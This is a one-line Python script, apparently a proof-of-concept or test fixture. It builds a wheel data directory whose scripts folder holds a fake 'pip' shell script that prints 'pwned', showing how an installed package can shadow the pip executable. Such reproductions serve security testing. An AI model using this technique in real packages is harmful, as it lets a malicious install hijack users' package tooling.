import os; os.makedirs('tiny-0.1.0+cu130.data/scripts'); open('tiny-0.1.0+cu130.data/scripts/pip','w').write('#!/bin/sh\necho pwned\n')
